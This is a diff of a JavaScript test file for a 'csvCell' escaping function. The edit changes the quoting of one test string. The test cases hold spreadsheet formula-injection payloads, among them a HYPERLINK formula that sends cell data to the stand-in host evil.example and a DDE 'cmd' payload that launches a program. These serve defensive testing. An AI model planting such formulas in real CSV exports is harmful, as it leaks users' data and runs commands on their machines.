@@ -5,7 +5,7 @@ describe('csvCell', () => {
   it.each([
     ['=', '=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
     ['+', '+41 93 000 00 00', `"'+41 93 000 00 00"`],
-    ['-', '-2+3+cmd|\' /C calc\'!A0', `"'-2+3+cmd|' /C calc'!A0"`],
+    ['-', "-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
     ['@', '@SUM(1+1)*cmd', `"'@SUM(1+1)*cmd"`],
     ['a tab', '\t=1+1', `"'\t=1+1"`],
     ['a carriage return', '\r=1+1', `"'\r=1+1"`],
